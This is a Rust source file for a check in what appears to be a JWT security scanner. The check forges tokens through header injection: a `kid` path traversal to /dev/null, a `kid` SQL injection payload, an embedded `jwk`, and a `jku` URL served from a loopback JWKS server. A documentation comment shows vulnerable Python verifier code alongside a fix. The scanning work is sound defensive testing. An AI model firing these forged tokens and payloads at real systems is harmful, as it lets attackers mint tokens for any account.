use authprobe_core::{CheckMeta, CheckOutcome, Family as CheckFamily, Finding, Requirement, ScanContext, Severity};
use authprobe_jwt::forge::{self, HmacAlg};
use serde_json::Value;
use std::net::Ipv4Addr;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::Arc;
use std::time::Duration;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpListener, TcpStream};
use tokio::task::{JoinHandle, JoinSet};

use super::families::{families, no_family_reason, Acceptance, Family};
use crate::support::owasp;

/// `kid` values that make a naive key lookup return a key the attacker knows, with it.
const KID_INJECTIONS: &[(&str, &str, &[u8])] = &[
    (
        "path traversal to /dev/null (empty key)",
        "../../../../../../../../../../dev/null",
        b"",
    ),
    (
        "SQL injection returning a chosen key",
        "authprobe' UNION SELECT 'authprobe' -- ",
        b"authprobe",
    ),
];

crate::declare_check! {
    /// ## What it does
    /// Tests whether the verifier lets the token's header choose the verification key. For
    /// HMAC token families it forges tokens (carrying the second identity's claims) whose
    /// `kid` is a path traversal to `/dev/null` (signed with the empty key) or an SQL
    /// injection that returns a known key (signed with it). For RSA token families it signs
    /// with the scanner's own RSA key and embeds that key's public half as a `jwk` header;
    /// then it names a `jku` URL (header `kid` `authprobe-attacker`) where a JWKS holding
    /// that public key is served by a throwaway HTTP server the check runs on 127.0.0.1 for
    /// the duration of the attempt, and reports whether the target fetched it.
    /// jku needs a callback address the target can reach; authprobe serves it on loopback,
    /// so it is tried against local targets (a loopback target host) only. `x5u` is not
    /// tried. **Confirmed** when the verifier answers as the identity named in the forged
    /// claims, on a verifier that rejects the victim's token with a tampered signature.
    ///
    /// ## Why is this bad?
    /// Header parameters are attacker-controlled. A `kid` used as a file name or in SQL picks
    /// a key the attacker knows; a trusted embedded `jwk` means the token vouches for itself,
    /// and a trusted `jku` lets it name a key set on the attacker's server (and makes the
    /// verifier fetch arbitrary URLs: server-side request forgery).
    /// Any of these lets anyone mint tokens for any account.
    ///
    /// ## Example
    /// ```python
    /// def key_for(raw):
    ///     kid = jwt.get_unverified_header(raw)["kid"]
    ///     return open(os.path.join(settings.JWT_KEYS_DIR, kid), "rb").read()   # kid = "../../dev/null"
    ///
    /// def verify_partner(raw):
    ///     jwk = jwt.get_unverified_header(raw)["jwk"]                         # the token's own key
    ///     return jwt.decode(raw, jwt.PyJWK(jwk).key, algorithms=["RS256"])
    ///
    /// def verify_rotating_partner(raw):
    ///     header = jwt.get_unverified_header(raw)
    ///     key = jwt.PyJWKClient(header["jku"]).get_signing_key(header["kid"])  # the token's URL
    ///     return jwt.decode(raw, key.key, algorithms=["RS256"])
    /// ```
    ///
    /// ## Remediation
    /// Resolve `kid` against a fixed table of your own keys and reject unknown ids; never
    /// take keys from the token:
    /// ```python
    /// KEYS = {"2024-06": settings.JWT_KEY_2024_06, "2024-12": settings.JWT_KEY_2024_12}
    /// key = KEYS.get(jwt.get_unverified_header(raw).get("kid"))
    /// if key is None:
    ///     raise AuthenticationFailed("unknown key id")
    /// jwt.decode(raw, key, algorithms=["HS256"])
    /// # RS256: fetch keys only from your own JWKS URL (PyJWKClient(settings.JWKS_URL)).
    /// ```
    ///
    /// ## References
    /// - RFC 7515 §4.1.3–4.1.5 (`jku`, `jwk`, `kid`); RFC 8725 §3.10
    /// - CWE-347: Improper Verification of Cryptographic Signature
    /// - OWASP API2:2023 Broken Authentication
    pub struct JwtHeaderInjection;
    meta = CheckMeta {
        code: "JWT009",
        slug: "jwt-header-injection",
        title: "JWT header chooses its own key (kid injection, embedded jwk, jku)",
        severity: Severity::Critical,
        cwe: &[347],
        owasp: &[owasp::API2],
        requires: Requirement::Identity,
        family: CheckFamily::Jwt,
    };
    shares = [JwtFamilies];
}

impl JwtHeaderInjection {
    async fn check(&self, cx: &ScanContext) -> CheckOutcome {
        let families = families(cx).await;
        if let Some(reason) = no_family_reason(&families) {
            return CheckOutcome::skipped(reason);
        }
        let mut findings = Vec::new();
        for family in families.0.iter().filter(|f| f.verifier.is_some()) {
            if !family.verifies_signatures(cx).await {
                continue;
            }
            match try_forgeries(cx, family).await {
                Attempt::Accepted(finding) => findings.push(*finding),
                Attempt::Inconclusive => {}
                Attempt::Rejected => {
                    // jku needs a callback address the target can reach; authprobe serves
                    // it on loopback, so it is tried against local targets only.
                    if is_rsa(family) && cx.target.is_loopback() {
                        if let Attempt::Accepted(finding) = try_jku(cx, family).await {
                            findings.push(*finding);
                        }
                    }
                }
            }
        }
        findings.into()
    }
}

/// How a family's forgeries fared.
enum Attempt {
    Accepted(Box<Finding>),
    Rejected,
    Inconclusive,
}

/// Sends the forgeries that need no callback; stops at the first acceptance.
async fn try_forgeries(cx: &ScanContext, family: &Family) -> Attempt {
    for (what, token) in forgeries(family) {
        match judge(cx, family, &token, &what, None).await {
            Attempt::Rejected => continue,
            other => return other,
        }
    }
    Attempt::Rejected
}

/// The `jku` forgery: the scanner's key, published for the duration of the attempt as a
/// JWKS on a loopback callback server, named by the token's `jku` header.
async fn try_jku(cx: &ScanContext, family: &Family) -> Attempt {
    let Ok(server) = JwksServer::start(&forge::attacker_jwks()).await else {
        return Attempt::Rejected;
    };
    let token = forge::sign_with_jku(family.header(), family.claims(), &server.url);
    let what = "a `jku` header naming a JWKS the scanner served, signed with the scanner's RSA key";
    let outcome = judge(cx, family, &token, what, Some(&server)).await;
    server.shutdown().await;
    outcome
}

/// Sends one forgery and turns an acceptance into a finding.
async fn judge(cx: &ScanContext, family: &Family, token: &str, what: &str, server: Option<&JwksServer>) -> Attempt {
    let (acceptance, resp) = family.try_token(cx, token).await;
    if let Acceptance::Inconclusive(_) = acceptance {
        return Attempt::Inconclusive;
    }
    let (Some(confidence), Some(resp)) = (acceptance.confidence(), resp) else {
        return Attempt::Rejected;
    };
    let mut message = format!(
        "{} accepted a token whose header chose its own key ({what}) and answered as {}.",
        family.endpoint(),
        family.victim_phrase()
    );
    if let Some(fetches) = server.map(JwksServer::fetches).filter(|n| *n > 0) {
        message.push_str(&format!(
            " The server fetched the attacker's JWKS from the jku URL ({fetches} request{}).",
            if fetches == 1 { "" } else { "s" }
        ));
    }
    Attempt::Accepted(Box::new(
        Finding::new(confidence, family.endpoint(), message).with_evidence(family.evidence(&resp)),
    ))
}

fn is_rsa(family: &Family) -> bool {
    family.alg().starts_with("RS") || family.alg().starts_with("PS")
}

/// The header-injection forgeries that apply to a family's algorithm (all but `jku`, which
/// needs the callback server).
fn forgeries(family: &Family) -> Vec<(String, String)> {
    let mut out = Vec::new();
    if let Some(alg) = HmacAlg::from_alg(family.alg()) {
        for (what, kid, key) in KID_INJECTIONS {
            let mut header = family.header().clone();
            header.insert("kid".into(), Value::String((*kid).into()));
            out.push((
                format!("`kid` {what}"),
                forge::sign_hmac(alg, &header, family.claims(), key),
            ));
        }
    }
    if is_rsa(family) {
        out.push((
            "an embedded `jwk` header with the scanner's own RSA key".to_string(),
            forge::sign_with_embedded_jwk(family.header(), family.claims()),
        ));
    }
    out
}

/// How long the callback server waits for a request head before hanging up.
const CALLBACK_READ_TIMEOUT: Duration = Duration::from_secs(5);
/// The largest request head the callback server reads.
const CALLBACK_MAX_HEAD: usize = 16 * 1024;

/// A throwaway HTTP server on 127.0.0.1 that answers every `GET` with one JSON document
/// (the attacker's JWKS) and counts those requests. It runs until [`JwksServer::shutdown`]
/// or until dropped.
struct JwksServer {
    url: String,
    fetches: Arc<AtomicUsize>,
    task: JoinHandle<()>,
}

impl JwksServer {
    async fn start(document: &Value) -> std::io::Result<JwksServer> {
        let listener = TcpListener::bind((Ipv4Addr::LOCALHOST, 0)).await?;
        let url = format!("http://127.0.0.1:{}/jwks.json", listener.local_addr()?.port());
        let body: Arc<str> = document.to_string().into();
        let fetches = Arc::new(AtomicUsize::new(0));
        let counter = fetches.clone();
        let task = tokio::spawn(async move {
            // Dropping the set (when the task is aborted) aborts the open connections too.
            let mut connections = JoinSet::new();
            loop {
                match listener.accept().await {
                    Ok((stream, _)) => {
                        connections.spawn(serve_json(stream, body.clone(), counter.clone()));
                    }
                    Err(_) => tokio::time::sleep(Duration::from_millis(20)).await,
                }
                while connections.try_join_next().is_some() {}
            }
        });
        Ok(JwksServer { url, fetches, task })
    }

    /// `GET` requests served so far.
    fn fetches(&self) -> usize {
        self.fetches.load(Ordering::SeqCst)
    }

    /// Stops listening and closes every open connection.
    async fn shutdown(mut self) {
        self.task.abort();
        let _ = (&mut self.task).await;
    }
}

impl Drop for JwksServer {
    fn drop(&mut self) {
        self.task.abort();
    }
}

/// Reads one request head; a `GET` gets `body` as JSON (and is counted), anything else 405.
async fn serve_json(mut stream: TcpStream, body: Arc<str>, fetches: Arc<AtomicUsize>) {
    let mut head = Vec::new();
    let mut buf = [0u8; 2048];
    let read_head = async {
        while !head.windows(4).any(|w| w == b"\r\n\r\n") && head.len() < CALLBACK_MAX_HEAD {
            match stream.read(&mut buf).await {
                Ok(0) | Err(_) => return false,
                Ok(n) => head.extend_from_slice(&buf[..n]),
            }
        }
        true
    };
    if !matches!(tokio::time::timeout(CALLBACK_READ_TIMEOUT, read_head).await, Ok(true)) {
        return;
    }
    let response = if head.starts_with(b"GET ") {
        fetches.fetch_add(1, Ordering::SeqCst);
        format!(
            "HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
            body.len()
        )
    } else {
        "HTTP/1.1 405 Method Not Allowed\r\nAllow: GET\r\nContent-Length: 0\r\nConnection: close\r\n\r\n".to_string()
    };
    let _ = stream.write_all(response.as_bytes()).await;
    let _ = stream.shutdown().await;
}

#[cfg(test)]
mod tests {
    use super::*;

    async fn get(url: &str, method: &str) -> String {
        let addr = url.trim_start_matches("http://").split('/').next().unwrap().to_string();
        let mut stream = TcpStream::connect(addr).await.unwrap();
        stream
            .write_all(format!("{method} /jwks.json HTTP/1.1\r\nHost: x\r\n\r\n").as_bytes())
            .await
            .unwrap();
        let mut out = String::new();
        stream.read_to_string(&mut out).await.unwrap();
        out
    }

    #[tokio::test]
    async fn the_callback_serves_the_jwks_counts_gets_and_stops() {
        let server = JwksServer::start(&forge::attacker_jwks()).await.unwrap();
        assert!(server.url.starts_with("http://127.0.0.1:") && server.url.ends_with("/jwks.json"));
        let answer = get(&server.url, "GET").await;
        assert!(answer.starts_with("HTTP/1.1 200 OK\r\n"), "{answer}");
        let body = answer.split("\r\n\r\n").nth(1).unwrap();
        let jwks: Value = serde_json::from_str(body).unwrap();
        assert_eq!(jwks, forge::attacker_jwks());
        assert!(get(&server.url, "POST").await.starts_with("HTTP/1.1 405"));
        assert_eq!(server.fetches(), 1);
        let addr = server
            .url
            .trim_start_matches("http://")
            .split('/')
            .next()
            .unwrap()
            .to_string();
        server.shutdown().await;
        assert!(
            TcpStream::connect(addr).await.is_err(),
            "the port is closed after shutdown"
        );
    }
}
